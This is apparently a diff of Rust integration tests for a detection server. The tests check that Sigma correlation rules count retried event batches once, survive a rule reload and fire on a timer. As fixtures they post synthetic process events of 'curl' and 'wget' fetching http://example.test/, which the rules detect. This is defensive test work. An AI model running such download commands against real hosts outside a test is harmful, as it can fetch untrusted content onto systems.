@@ -917,7 +897,7 @@ async fn sigma_correlations_alert_per_tenant() {
         )
         .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
-        let m = common::request(&w.app, "GET", "/metrics", None, &[], None).await;
+        let m = w.call("GET", "/metrics", None, None).await;
         let text = String::from_utf8_lossy(&m.body).into_owned();
         let fired = text
             .lines()
@@ -960,15 +940,16 @@ correlation:
 level: critical
 "#;
 
-async fn alerts_of(w: &W, rule: &str) -> Vec<Value> {
-    let (s, page) = call(
-        &w.app,
-        "GET",
-        &format!("/api/v1/alerts?rule={rule}"),
-        &w.admin,
-        None,
-    )
-    .await;
+async fn alerts_of(w: &World, rule: &str) -> Vec<Value> {
+    let (s, page) = w
+        .call(
+            "GET",
+            &format!("/api/v1/alerts?rule={rule}"),
+            Some(&w.admin),
+            None,
+        )
+        .await
+        .sv();
     assert_eq!(s, StatusCode::OK, "{page}");
     page["items"].as_array().unwrap().clone()
 }
@@ -978,22 +959,28 @@ async fn alerts_of(w: &W, rule: &str) -> Vec<Value> {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn sigma_correlations_count_a_retried_batch_once() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
         let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
         let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
         assert_eq!(
-            post_events(&w.app, &w.token, "r1", two.clone()).await["alerts"],
+            post_events(&w.app, &w.a().device().token, "r1", two.clone()).await["alerts"],
             0
         );
         // The retry: still two matches, not four (which would complete the correlation).
-        let r = post_events(&w.app, &w.token, "r1", two).await;
+        let r = post_events(&w.app, &w.a().device().token, "r1", two).await;
         assert_eq!(
             r["alerts"], 0,
             "{name}: the retried batch was counted again: {r}"
         );
         // The third match completes it.
-        let r = post_events(&w.app, &w.token, "r2", vec![curl("2026-12-01T10:00:10Z")]).await;
+        let r = post_events(
+            &w.app,
+            &w.a().device().token,
+            "r2",
+            vec![curl("2026-12-01T10:00:10Z")],
+        )
+        .await;
         assert_eq!(r["alerts"], 1, "{name}: {r}");
         // A batch that completed one, retried: the same alert, not a second count.
         let three = vec![
@@ -1002,17 +989,23 @@ async fn sigma_correlations_count_a_retried_batch_once() {
             curl("2026-12-01T10:01:02Z"),
         ];
         assert_eq!(
-            post_events(&w.app, &w.token, "r3", three.clone()).await["alerts"],
+            post_events(&w.app, &w.a().device().token, "r3", three.clone()).await["alerts"],
             1
         );
         assert_eq!(
-            post_events(&w.app, &w.token, "r3", three).await["alerts"],
+            post_events(&w.app, &w.a().device().token, "r3", three).await["alerts"],
             1
         );
         let items = alerts_of(&w, "9d2c1f00-0000-4000-8000-000000000002").await;
         assert_eq!(items.len(), 2, "{name}: {items:?}");
         // Nothing left over from the retries: one more match is the first of a new window.
-        let r = post_events(&w.app, &w.token, "r4", vec![curl("2026-12-01T10:01:03Z")]).await;
+        let r = post_events(
+            &w.app,
+            &w.a().device().token,
+            "r4",
+            vec![curl("2026-12-01T10:01:03Z")],
+        )
+        .await;
         assert_eq!(r["alerts"], 0, "{name}: {r}");
     }
 }
@@ -1022,17 +1015,26 @@ async fn sigma_correlations_count_a_retried_batch_once() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn sigma_correlations_survive_a_rule_reload() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
         let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
         let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
-        assert_eq!(post_events(&w.app, &w.token, "s1", two).await["alerts"], 0);
+        assert_eq!(
+            post_events(&w.app, &w.a().device().token, "s1", two).await["alerts"],
+            0
+        );
         let handle = w.state.scoring.rules().unwrap().clone();
         let rules_dir = handle.dir().unwrap().to_path_buf();
         std::fs::write(rules_dir.join("timer.yml"), SIGMA_FEW).unwrap();
         handle.reload().unwrap();
         assert_eq!(handle.status().generation, 2);
-        let r = post_events(&w.app, &w.token, "s2", vec![curl("2026-12-01T10:00:10Z")]).await;
+        let r = post_events(
+            &w.app,
+            &w.a().device().token,
+            "s2",
+            vec![curl("2026-12-01T10:00:10Z")],
+        )
+        .await;
         assert_eq!(
             r["alerts"], 1,
             "{name}: the reload reset the correlation: {r}"
@@ -1046,13 +1048,19 @@ async fn sigma_correlations_survive_a_rule_reload() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn sigma_correlation_upper_bound_fires_on_the_timer() {
     let dir = tempfile::tempdir().unwrap();
-    for (name, store) in stores(dir.path()).await {
+    for (name, store, _) in common::stores(dir.path(), "detection").await {
         let w = world(store).await;
         let handle = w.state.scoring.rules().unwrap().clone();
         std::fs::write(handle.dir().unwrap().join("timer.yml"), SIGMA_FEW).unwrap();
         handle.reload().unwrap();
         let wget = |ts: &str| exec(ts, "wget", &["wget", "http://example.test/"], None);
-        let r = post_events(&w.app, &w.token, "t1", vec![wget("2026-12-01T11:00:00Z")]).await;
+        let r = post_events(
+            &w.app,
+            &w.a().device().token,
+            "t1",
+            vec![wget("2026-12-01T11:00:00Z")],
+        )
+        .await;
         assert_eq!(r["alerts"], 0, "{name}: {r}");
         // Before the window is over (event time, plus the grace for late uploads): nothing.
         let early = chrono::DateTime::parse_from_rfc3339("2026-12-01T11:00:30Z")
@@ -1079,7 +1087,7 @@ async fn sigma_correlation_upper_bound_fires_on_the_timer() {
         assert_eq!(items.len(), 1, "{name}: {items:?}");
         let a = &items[0];
         assert_eq!(a["risk_score"], 140, "{a}");
-        assert_eq!(a["device_id"], w.device.as_str(), "{a}");
+        assert_eq!(a["device_id"], w.a().device().id.as_str(), "{a}");
         assert!(
             a["event"]["ts"]
                 .as_str()
